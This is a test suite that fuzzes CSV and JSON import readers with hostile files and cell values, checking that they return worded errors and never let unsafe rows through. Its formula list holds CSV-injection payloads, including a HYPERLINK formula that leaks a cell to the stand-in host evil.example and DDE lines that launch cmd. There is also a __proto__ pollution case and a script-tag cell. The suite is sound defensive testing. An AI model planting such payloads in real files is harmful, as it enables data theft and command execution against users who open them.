// Issue 7, "Hostile input", for imports: every CSV/JSON reader is fed hostile files. A reader must
// return (never throw) with a file error or per-row errors in words, and no row that passes may
// carry a control character, an impossible number or an impossible date into the database.
import { describe, expect, it } from "vitest";
import { CONTROL } from "@/lib/schemas/text";
import { MAX_OBSERVATION_ROWS, OBSERVATION_COLUMNS, readObservationCsv, type ObservationCsvRow } from "@/lib/domain/observation-csv";
import { MAX_READING_ROWS, READING_COLUMNS, readReadingCsv, type ReadingCsvRow } from "@/lib/domain/metric-csv";
import { MAX_SURVEY_ROWS, readSurveyCsv, type SurveyCsvRow } from "@/lib/domain/survey-csv";
import { CSV_COLUMNS, MAX_IMPORT_ROWS, readCatalogueFile, type ImportRow } from "@/lib/domain/catalogue-transfer";
import type { SurveyShape } from "@/lib/domain/surveys";
import { CONTROL_SAMPLES, HOSTILE_STRINGS, ONE_MB, TEN_KB, type Hostile } from "../support/hostile-corpus";

const TODAY = "2026-01-15";
const TOMORROW = "2026-01-16";

// ---------------------------------------------------------------- the readers under test

/** How a column is checked: what the reader must refuse, and what it may keep as data. */
type Column =
  | { kind: "date" } // a real date, not after today
  | { kind: "count" } // observation counts: whole numbers 0…9999
  | { kind: "number" } // reading values: finite, |v| ≤ 1e12
  | { kind: "stored"; max: number; required: boolean; field: string } // text written to the database as typed
  | { kind: "lookup"; required: boolean; field: string } // a name matched to a record by the data layer (never stored)
  | { kind: "email"; max: number } // catalogue owner: matched to a member
  | { kind: "lines"; each: number } // catalogue anchors, one per line
  | { kind: "group" } // survey: doer, non-doer, excluded or empty
  | { kind: "answer"; screening: boolean } // survey: must be one of the question's responses
  | { kind: "ignored" }; // read by no rule (the catalogue's status: imports are drafts)

interface Result<R> {
  rows: R[];
  fileError?: string;
}

interface Reader<R> {
  name: string;
  columns: readonly string[];
  valid: readonly string[];
  kinds: Record<string, Column>;
  maxRows: number;
  read: (text: string) => Result<R>;
  errors: (row: R) => string[];
  /** Why a row that passes is not safe to write (empty when it is). */
  unsafe: (row: R) => string[];
  /** The value a passing row keeps for a text column. */
  field: (row: R, field: string) => unknown;
  /** A valid row whose unique column is made unique by n (for files with many rows). */
  nth: (n: number) => string[];
}

const isRealDate = (s: string) => {
  if (!/^\d{4}-\d{2}-\d{2}$/.test(s)) return false;
  const d = new Date(`${s}T00:00:00Z`);
  return !Number.isNaN(d.getTime()) && d.toISOString().slice(0, 10) === s;
};
const controls = (values: Record<string, unknown>): string[] =>
  Object.entries(values).flatMap(([k, v]) => (typeof v === "string" && CONTROL.test(v) ? [`${k} keeps a control character: ${JSON.stringify(v.slice(0, 40))}`] : []));
const dateProblems = (date: string) => (!isRealDate(date) ? [`date ${JSON.stringify(date.slice(0, 20))} is not a real date`] : date > TODAY ? [`date ${date} is in the future`] : []);

const observations: Reader<ObservationCsvRow> = {
  name: "readObservationCsv",
  columns: OBSERVATION_COLUMNS,
  valid: ["2026-01-14", "Platform", "Post the root cause", "4", "1", "Sprint review"],
  kinds: {
    date: { kind: "date" },
    team: { kind: "lookup", required: true, field: "team" },
    behaviour: { kind: "lookup", required: true, field: "behaviour" },
    performed: { kind: "count" },
    missed: { kind: "count" },
    note: { kind: "stored", max: 500, required: false, field: "note" },
  },
  maxRows: MAX_OBSERVATION_ROWS,
  read: (text) => readObservationCsv(text, TODAY),
  errors: (r) => r.errors,
  unsafe: (r) => [
    ...controls({ date: r.date, team: r.team, behaviour: r.behaviour, note: r.note }),
    ...dateProblems(r.date),
    ...[r.performed, r.missed].flatMap((n) => (Number.isInteger(n) && n >= 0 && n <= 9999 ? [] : [`count ${n} is not a whole number from 0 to 9999`])),
    ...(r.performed + r.missed > 0 ? [] : ["no opportunity"]),
    ...(r.team && r.behaviour ? [] : ["team or behaviour missing"]),
    ...(r.note.length <= 500 ? [] : ["note longer than 500"]),
  ],
  field: (r, f) => r[f as keyof ObservationCsvRow],
  nth: (n) => ["2026-01-14", "Platform", "Post the root cause", "4", "1", `row ${n}`],
};

const readings: Reader<ReadingCsvRow> = {
  name: "readReadingCsv",
  columns: READING_COLUMNS,
  valid: ["2026-01-14", "Incidents with a root cause", "Platform", "42.5"],
  kinds: { date: { kind: "date" }, metric: { kind: "lookup", required: true, field: "metric" }, team: { kind: "lookup", required: false, field: "team" }, value: { kind: "number" } },
  maxRows: MAX_READING_ROWS,
  read: (text) => readReadingCsv(text, TODAY),
  errors: (r) => r.errors,
  unsafe: (r) => [
    ...controls({ date: r.date, metric: r.metric, team: r.team }),
    ...dateProblems(r.date),
    ...(typeof r.value === "number" && Number.isFinite(r.value) && Math.abs(r.value) <= 1e12 ? [] : [`value ${r.value} is not a finite number within ±1e12`]),
    ...(r.metric ? [] : ["metric missing"]),
  ],
  field: (r, f) => r[f as keyof ReadingCsvRow],
  nth: (n) => [`2026-01-${String((n % 14) + 1).padStart(2, "0")}`, `Metric ${Math.floor(n / 14)}`, "Platform", String(n)],
};

const SCREEN = "Did you post the root cause every time?";
const TOOLS = "Is it difficult to get the tools you need?";
const SHAPE: SurveyShape = {
  questions: [
    {
      id: "s", text: SCREEN, kind: "SCREENING", determinant: null, multiple: false,
      options: [
        { id: "s-yes", label: "Yes", classifies: "DOER" },
        { id: "s-no", label: "No", classifies: "NON_DOER" },
        { id: "s-never", label: "Never due", classifies: "EXCLUDED" },
      ],
    },
    {
      id: "t", text: TOOLS, kind: "DETERMINANT", determinant: "ACCESS", multiple: true,
      options: [
        { id: "t-yes", label: "Yes", classifies: null },
        { id: "t-no", label: "No", classifies: null },
      ],
    },
  ],
};
const OPTION_IDS = new Set(SHAPE.questions.flatMap((q) => q.options.map((o) => o.id)));

const surveys: Reader<SurveyCsvRow> = {
  name: "readSurveyCsv",
  columns: ["respondent", "group", SCREEN, TOOLS],
  valid: ["r1", "", "Yes", "No"],
  kinds: {
    respondent: { kind: "stored", max: 80, required: true, field: "respondent" },
    group: { kind: "group" },
    [SCREEN]: { kind: "answer", screening: true },
    [TOOLS]: { kind: "answer", screening: false },
  },
  maxRows: MAX_SURVEY_ROWS,
  read: (text) => readSurveyCsv(text, SHAPE),
  errors: (r) => r.errors,
  unsafe: (r) => [
    ...controls({ respondent: r.respondent }),
    ...(r.respondent && r.respondent.length <= 80 ? [] : ["respondent missing or longer than 80"]),
    ...(r.group === "DOER" || r.group === "NON_DOER" || r.group === "EXCLUDED" ? [] : [`group ${String(r.group)}`]),
    ...r.optionIds.filter((o) => !OPTION_IDS.has(o)).map((o) => `unknown option ${o}`),
  ],
  field: (r, f) => r[f as keyof SurveyCsvRow],
  nth: (n) => [`r${n}`, "", "Yes", "No"],
};

const CATALOGUE_LIMITS: Record<string, number> = {
  value: 80, title: 120, actor: 120, action: 300, trigger: 200, frequency: 120, completionCriterion: 300, customerOutcome: 300, example: 500, ownerEmail: 254,
};
const camel = (c: string) => c.replace(/_(\w)/g, (_, x: string) => x.toUpperCase());
const catalogueUnsafe = (r: ImportRow): string[] => {
  const b = r.behaviour;
  if (!b) return ["passed without a behaviour"];
  const problems = controls({ ...b, anchors: "" });
  for (const [k, max] of Object.entries(CATALOGUE_LIMITS)) if (String((b as Record<string, unknown>)[k]).length > max) problems.push(`${k} longer than ${max}`);
  if (b.anchors.length > 6) problems.push("more than 6 anchors");
  b.anchors.forEach((a, i) => {
    if (a.length > 200 || !a.trim()) problems.push(`anchor ${i} empty or longer than 200`);
    if (CONTROL.test(a)) problems.push(`anchor ${i} keeps a control character: ${JSON.stringify(a.slice(0, 40))}`);
  });
  return problems;
};

const catalogue: Reader<ImportRow> = {
  name: "readCatalogueFile (CSV)",
  columns: CSV_COLUMNS,
  valid: [
    "Ownership", "Post the root cause", "The engineer on call", "posts the root cause on the ticket", "when an incident is closed", "every incident",
    "a root-cause note is on the ticket", "customers hear what went wrong", "Ticket 24: the cache expired early.", "Is the cause named?\nIs it on the ticket?", "grace@example.com", "ACTIVE",
  ],
  kinds: {
    ...Object.fromEntries(["value", "title", "actor", "action", "trigger", "frequency", "completion_criterion", "customer_outcome", "example"].map((c) => [c, { kind: "stored", max: CATALOGUE_LIMITS[camel(c)]!, required: c !== "example", field: camel(c) } as Column])),
    anchors: { kind: "lines", each: 200 },
    owner_email: { kind: "email", max: 254 },
    status: { kind: "ignored" },
  },
  maxRows: MAX_IMPORT_ROWS,
  read: (text) => readCatalogueFile(text),
  errors: (r) => r.errors,
  unsafe: catalogueUnsafe,
  field: (r, f) => (r.behaviour as Record<string, unknown> | null)?.[f],
  nth: (n) => catalogue.valid.map((v, i) => (i === 1 ? `Behaviour number ${n}` : v)),
};

const READERS = [observations, readings, surveys, catalogue] as unknown as Reader<unknown>[];

// ---------------------------------------------------------------- building files

const cell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const line = (cells: readonly string[]) => cells.map(cell).join(",");
const fileOf = (r: Reader<unknown>, rows: readonly (readonly string[])[], eol = "\n") => [line(r.columns), ...rows.map(line)].join(eol) + eol;
const withCell = (r: Reader<unknown>, column: string, value: string) => r.valid.map((v, i) => (r.columns[i] === column ? value : v));

/** Deterministic noise: letters, separators, quotes, line breaks, NUL, bidi overrides, emoji, formula starts. */
function garbage(length: number, quotes: boolean, seed = 7): string {
  const pool = ["a", "b", "Z", "9", "0", ",", ",", "\n", "\r\n", "\r", " ", ";", "\u0000", "\u202E", "=", "+", "-", "@", "'", "<", ">", "👩‍💻", "\t", ...(quotes ? ['"', '""'] : [])];
  let x = seed;
  let out = "";
  while (out.length < length) {
    x = (x * 1_103_515_245 + 12_345) % 2_147_483_648;
    out += pool[x % pool.length];
  }
  return out;
}

const FORMULAS: readonly Hostile[] = [
  { name: "=HYPERLINK formula", value: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' },
  { name: "+cmd formula", value: "+cmd|' /C calc'!A0" },
  { name: "@SUM formula", value: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "-formula", value: "-2+3+cmd|' /C calc'!A0" },
  { name: "escaped formula (as exported)", value: "'=1+1" },
  { name: "tab-led formula", value: "\t=1+1" },
  { name: "DDE", value: "=DDE(\"cmd\";\"/C calc\";\"!A0\")" },
];
const NUMBER_CELLS: readonly Hostile[] = [
  { name: "number as word", value: "five" },
  { name: "negative count", value: "-1" },
  { name: "huge count", value: "99999" },
  { name: "1e308", value: "1e308" },
  { name: "400 nines", value: "9".repeat(400) },
  { name: "past a 32-bit column", value: "2147483648" },
  { name: "1e13", value: "1e13" },
  { name: "Infinity", value: "Infinity" },
  { name: "-Infinity", value: "-Infinity" },
  { name: "NaN", value: "NaN" },
  { name: "hex", value: "0x10" },
  { name: "decimal comma", value: "1,5" },
  { name: "thousands separators", value: "1,000,000" },
  { name: "decimal", value: "1.5" },
  { name: "exponent", value: "1e3" },
  { name: "leading plus", value: "+7" },
  { name: "leading dot", value: ".5" },
  { name: "negative zero", value: "-0" },
  { name: "padded", value: " 5 " },
  { name: "Arabic-Indic digits", value: "١٢" },
  { name: "full-width digits", value: "１２" },
  { name: "percentage", value: "12%" },
  { name: "currency", value: "€12" },
];
const DATE_CELLS: readonly Hostile[] = [
  { name: "tomorrow (date)", value: TOMORROW },
  { name: "far future", value: "2999-01-01" },
  { name: "9999-12-31", value: "9999-12-31" },
  { name: "30 February", value: "2026-02-30" },
  { name: "29 February in a common year", value: "2025-02-29" },
  { name: "29 February in a leap year (valid)", value: "2024-02-29" },
  { name: "month 13", value: "2026-13-01" },
  { name: "day 32", value: "2026-01-32" },
  { name: "all-zero date", value: "0000-00-00" },
  { name: "the word tomorrow", value: "tomorrow" },
  { name: "unpadded", value: "2026-1-5" },
  { name: "day/month/year", value: "14/01/2026" },
  { name: "month/day/year", value: "01/14/2026" },
  { name: "date-time", value: "2026-01-14T10:00:00Z" },
  { name: "Excel serial", value: "46036" },
  { name: "today (valid)", value: TODAY },
];

/** Every cell value tried in every column of every reader. */
const CELLS: readonly Hostile[] = [...HOSTILE_STRINGS, ...FORMULAS, ...NUMBER_CELLS, ...DATE_CELLS];

// ---------------------------------------------------------------- expectations

const GROUP_WORDS = new Set(["doer", "non-doer", "nondoer", "non doer", "excluded"]);
const realNumber = (t: string) => /^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/.test(t) && Number.isFinite(Number(t)) && Math.abs(Number(t)) <= 1e12;

/** "explain": the reader must refuse it in words. "either": it may be kept as data, if safe. */
function expectation(col: Column, value: string): "explain" | "either" {
  const unquoted = value.replace(/^'(?=[=+\-@\t\r])/, "");
  const t = unquoted.trim();
  switch (col.kind) {
    case "date":
      return isRealDate(t) && t <= TODAY ? "either" : "explain";
    case "count":
      return /^\d{1,4}$/.test(t) ? "either" : "explain";
    case "number":
      return realNumber(t) ? "either" : "explain";
    case "stored":
      return t.length > col.max || (col.required && t === "") ? "explain" : "either";
    case "lookup":
      return col.required && t === "" ? "explain" : "either";
    case "email":
      return t.length > col.max ? "explain" : "either";
    case "lines":
      return t.split(/\r?\n/).some((l) => l.trim().length > col.each) ? "explain" : "either";
    case "group":
      return t === "" || GROUP_WORDS.has(t.replace(/\s+/g, " ").toLowerCase()) ? "either" : "explain";
    case "answer":
      return col.screening || t !== "" ? "explain" : "either";
    case "ignored":
      return "either";
  }
}

// ---------------------------------------------------------------- checks

let tried = 0;
const worded = (s: unknown) => typeof s === "string" && s.trim() !== "" && /[A-Za-z]{3}/.test(s);

/** Reads a file; returns what is wrong with the outcome (never throwing, words, safe passing rows). */
function check<R>(r: Reader<R>, label: string, text: string, expect: "explain" | "either" | "valid" | "empty", keep?: { field: string; value: string }): string[] {
  tried++;
  const where = `${r.name} ← ${label}`;
  let res: Result<R>;
  try {
    res = r.read(text);
  } catch (err) {
    return [`${where}: threw ${(err as Error)?.message ?? String(err)}`];
  }
  const problems: string[] = [];
  if (!Array.isArray(res.rows)) return [`${where}: no rows list`];
  if (res.fileError !== undefined && !worded(res.fileError)) problems.push(`file error not in words: ${JSON.stringify(res.fileError)}`);
  if (res.fileError && res.rows.length > 0) problems.push("rows returned alongside a file error");
  for (const row of res.rows) for (const e of r.errors(row)) if (!worded(e)) problems.push(`row error not in words: ${JSON.stringify(e)}`);
  const passing = res.fileError ? [] : res.rows.filter((row) => r.errors(row).length === 0);
  for (const row of passing) problems.push(...r.unsafe(row).map((p) => `a row passed unsafe: ${p}`));
  const explained = Boolean(res.fileError) || res.rows.some((row) => r.errors(row).length > 0);
  if (expect === "explain" && !explained) problems.push(`not refused: ${res.rows.length} row(s) passed with no error`);
  if (expect === "valid" && (res.fileError || res.rows.length === 0 || passing.length !== res.rows.length)) problems.push(`a valid file was refused: ${res.fileError ?? JSON.stringify(res.rows.map((row) => r.errors(row)))}`);
  if (expect === "empty" && !res.fileError && res.rows.length > 0) problems.push(`${res.rows.length} row(s) from a file without data`);
  // Markup, SQL and emoji are data: kept exactly as written (less the trim), never rewritten.
  if (keep && passing.length === 1) {
    const got = r.field(passing[0]!, keep.field);
    const want = keep.value.replace(/^'(?=[=+\-@\t\r])/, "").trim();
    if (got !== want) problems.push(`${keep.field} did not round-trip: ${JSON.stringify(String(got).slice(0, 40))} ≠ ${JSON.stringify(want.slice(0, 40))}`);
  }
  return problems.map((p) => `${where}: ${p}`);
}

// ---------------------------------------------------------------- the suite

describe.each(READERS.map((r) => [r.name, r] as const))("%s is fed hostile files", (_name, r) => {
  it("reads its valid file (the baseline every hostile file is built from)", () => {
    expect(check(r, "valid file", fileOf(r, [r.valid]), "valid")).toEqual([]);
  });

  it("whole files: garbage, NUL, broken quotes, blank lines, BOM, line endings, too many rows", () => {
    const header = line(r.columns);
    const body = line(r.valid);
    const files: [string, string, "explain" | "either" | "valid" | "empty"][] = [
      ["empty file", "", "explain"],
      ["whitespace only", "  \n\t\n  ", "explain"],
      ["1 MB of garbage", garbage(1_048_576, true), "explain"],
      ["1 MB of garbage without quotes", garbage(1_048_576, false), "explain"],
      ["a valid header, then 1 MB of garbage", `${header}\n${garbage(1_048_576, false, 11)}`, "explain"],
      ["a valid header, then garbage under the row limit", `${header}\n${garbage(Math.min(r.maxRows, 400) * 12, false, 13)}`, "explain"],
      ["1 MB in one cell", fileOf(r, [withCell(r, r.columns[0]!, ONE_MB)]), "explain"],
      ["NUL bytes only", "\u0000".repeat(4_096), "explain"],
      ["NUL in the header", `${r.columns.map((c, i) => (i === 0 ? `${c.slice(0, 2)}\u0000${c.slice(2)}` : c)).map(cell).join(",")}\n${body}\n`, "explain"],
      ["NUL after every character", `${header}\n${body.split("").join("\u0000")}\n`, "explain"],
      ["an unclosed quote", `${header}\n"${body}\n`, "explain"],
      ["an unclosed quote in the last cell", `${header}\n${body},"never closed\n${body}\n`, "explain"],
      ["a stray quote inside a cell", `${header}\n${body.replace(/^([^,]*)/, '$1"x')}\n`, "either"],
      ["header only", `${header}\n`, "empty"],
      ["header only, no final newline", header, "empty"],
      ["50,000 empty lines after the header", `${header}${"\n".repeat(50_000)}`, "empty"],
      ["50,000 lines of commas after the header", `${header}\n${`${",".repeat(r.columns.length - 1)}\n`.repeat(50_000)}`, "empty"],
      ["50,000 CRLF lines, then the file", `${"\r\n".repeat(50_000)}${header}\r\n${body}\r\n`, "valid"],
      ["a byte-order mark", `\uFEFF${header}\n${body}\n`, "valid"],
      ["two byte-order marks", `\uFEFF\uFEFF${header}\n${body}\n`, "either"],
      ["CRLF line endings", fileOf(r, [r.valid], "\r\n"), "valid"],
      ["CR line endings", fileOf(r, [r.valid], "\r"), "valid"],
      ["mixed CRLF, CR and LF", `${header}\r\n${line(r.nth(1))}\r${line(r.nth(2))}\n${line(r.nth(3))}\r\n`, "valid"],
      ["the header in capitals with spaces", `${r.columns.map((c) => ` ${c.toUpperCase()} `).map(cell).join(",")}\n${body}\n`, "valid"],
      ["an unknown header", `${r.columns.map((c) => `${c}_x`).map(cell).join(",")}\n${body}\n`, "explain"],
      ["a header of formulas", `=HYPERLINK("x"),+cmd,@SUM(1)\n${body}\n`, "explain"],
      ["a row with too few cells", `${header}\n${r.valid.slice(0, 1).map(cell).join(",")}\n`, "explain"],
      ["a row with extra cells", `${header}\n${body},extra,"<script>alert(1)</script>"\n`, "either"],
      [`${r.maxRows + 1} rows (one past the limit)`, fileOf(r, Array.from({ length: r.maxRows + 1 }, (_, n) => r.nth(n))), "explain"],
      [`${r.maxRows * 4} rows`, fileOf(r, Array.from({ length: r.maxRows * 4 }, (_, n) => r.nth(n))), "explain"],
    ];
    const problems = files.flatMap(([label, text, expected]) => check(r, label, text, expected));
    expect(problems).toEqual([]);
  });

  for (const column of r.columns) {
    const col = r.kinds[column]!;
    it(`column ${JSON.stringify(column.slice(0, 30))} (${col.kind}): every hostile cell is refused in words, or kept safe`, () => {
      const problems: string[] = [];
      for (const h of CELLS) {
        const value = h.value as string;
        const keep = (col.kind === "stored" || col.kind === "lookup") && !CONTROL.test(value) ? { field: col.field, value } : undefined;
        problems.push(...check(r, `${column}: ${h.name}`, fileOf(r, [withCell(r, column, value)]), expectation(col, value), keep));
      }
      expect(problems).toEqual([]);
    });
  }

  it("never lets a control character through in any text column", () => {
    const problems: string[] = [];
    for (const column of r.columns) {
      const col = r.kinds[column]!;
      if (col.kind === "ignored") continue;
      for (const h of CONTROL_SAMPLES) {
        const res = check(r, `${column}: ${h.name}`, fileOf(r, [withCell(r, column, `Sprint ${h.value as string} review`)]), "explain");
        problems.push(...res);
      }
    }
    expect(problems).toEqual([]);
  });
});

describe("readCatalogueFile (JSON) is fed hostile documents", () => {
  const behaviour = {
    value: "Ownership", title: "Post the root cause", actor: "The engineer on call", action: "posts the root cause on the ticket", trigger: "when an incident is closed",
    frequency: "every incident", completionCriterion: "a root-cause note is on the ticket", customerOutcome: "customers hear what went wrong", example: "Ticket 24.",
    anchors: ["Is the cause named?"], ownerEmail: "grace@example.com", status: "ACTIVE",
  };
  const doc = (behaviours: unknown, values: unknown = [{ name: "Ownership", description: "We own outcomes." }]) => JSON.stringify({ format: "conduct-catalogue", version: 1, values, behaviours });
  const jsonReader: Reader<ImportRow> = { ...catalogue, name: "readCatalogueFile (JSON)" };

  const checkValues = (text: string): string[] => {
    const res = readCatalogueFile(text);
    return res.values.flatMap((v) => [...controls(v), ...(v.name.length <= 80 && v.description.length <= 300 ? [] : ["value longer than allowed"])]).map((p) => `values: ${p}`);
  };

  it("refuses broken, wrong-shaped, huge and deeply nested JSON in words", () => {
    const files: [string, string, "explain" | "either" | "valid" | "empty"][] = [
      ["a valid document", doc([behaviour]), "valid"],
      ["a bare list", JSON.stringify([behaviour]), "valid"],
      ["an unclosed list", "[", "explain"],
      ["an unclosed object", '{"behaviours": [', "explain"],
      ["an empty object", "{}", "explain"],
      ["behaviours as a string", '{"behaviours": "all of them"}', "explain"],
      ["behaviours as null", '{"behaviours": null}', "explain"],
      ["behaviours as an object", '{"behaviours": {"0": {}}}', "explain"],
      ["a list of null", "[null]", "explain"],
      ["a list of numbers", "[1, 2, 3]", "explain"],
      ["a list of strings", '["Post the root cause"]', "explain"],
      ["a list of empty objects", "[{}]", "explain"],
      ["a list of lists", "[[1], [2]]", "explain"],
      ["nested depth 1000", `${"[".repeat(1_000)}${"]".repeat(1_000)}`, "explain"],
      ["nested objects depth 1000", `[${'{"a":'.repeat(1_000)}1${"}".repeat(1_000)}]`, "explain"],
      ["a 1 MB string", JSON.stringify([ONE_MB]), "explain"],
      ["1 MB of garbage after [", `[${garbage(1_048_576, true)}`, "explain"],
      ["__proto__ holding the behaviours", `{"__proto__": {"behaviours": ${JSON.stringify([behaviour])}}}`, "explain"],
      ["__proto__ inside a behaviour", JSON.stringify([behaviour]).replace("{", '{"__proto__":{"polluted":true},'), "valid"],
      ["NUL outside strings", "[\u0000]", "explain"],
      [`${MAX_IMPORT_ROWS + 1} behaviours`, doc(Array.from({ length: MAX_IMPORT_ROWS + 1 }, (_, i) => ({ ...behaviour, title: `Behaviour ${i}` }))), "explain"],
      ["a behaviour with every field a number", doc([Object.fromEntries(Object.keys(behaviour).map((k) => [k, 42]))]), "explain"],
      ["a behaviour with every field null", doc([Object.fromEntries(Object.keys(behaviour).map((k) => [k, null]))]), "explain"],
      ["anchors as a string", doc([{ ...behaviour, anchors: "Is the cause named?" }]), "explain"],
      ["seven anchors", doc([{ ...behaviour, anchors: Array.from({ length: 7 }, (_, i) => `Question ${i}?`) }]), "explain"],
      ["100,000 anchors", doc([{ ...behaviour, anchors: Array.from({ length: 100_000 }, () => "Q?") }]), "explain"],
      ["a 10 kB anchor", doc([{ ...behaviour, anchors: [TEN_KB] }]), "explain"],
      ["the same title twice", doc([behaviour, { ...behaviour, title: " POST THE ROOT CAUSE " }]), "explain"],
      ["values as a string", doc([behaviour], "Ownership"), "valid"],
      ["values with control characters", doc([behaviour], [{ name: "Own\u0000ership", description: "We \u202Eown" }]), "valid"],
    ];
    const problems = files.flatMap(([label, text, expected]) => [...check(jsonReader, label, text, expected), ...checkValues(text)]);
    expect(problems).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("every field of a behaviour: every hostile value is refused in words, or kept safe", () => {
    const problems: string[] = [];
    const values: Hostile[] = [...HOSTILE_STRINGS, ...FORMULAS, { name: "number", value: 42 }, { name: "negative", value: -1 }, { name: "huge", value: 1e308 }, { name: "true", value: true }, { name: "null", value: null }, { name: "object", value: { a: 1 } }, { name: "list", value: ["a"] }];
    for (const key of Object.keys(behaviour)) {
      for (const h of values) {
        const item: Record<string, unknown> = { ...behaviour, [key]: key === "anchors" && typeof h.value === "string" ? [h.value] : h.value };
        problems.push(...check(jsonReader, `${key}: ${h.name}`, doc([item]), "either"));
      }
    }
    expect(problems).toEqual([]);
  });
});

// Last: the suite must not quietly shrink.
describe("coverage", () => {
  it("tried enough hostile files", () => {
    expect(tried).toBeGreaterThan(5_000);
  });
});
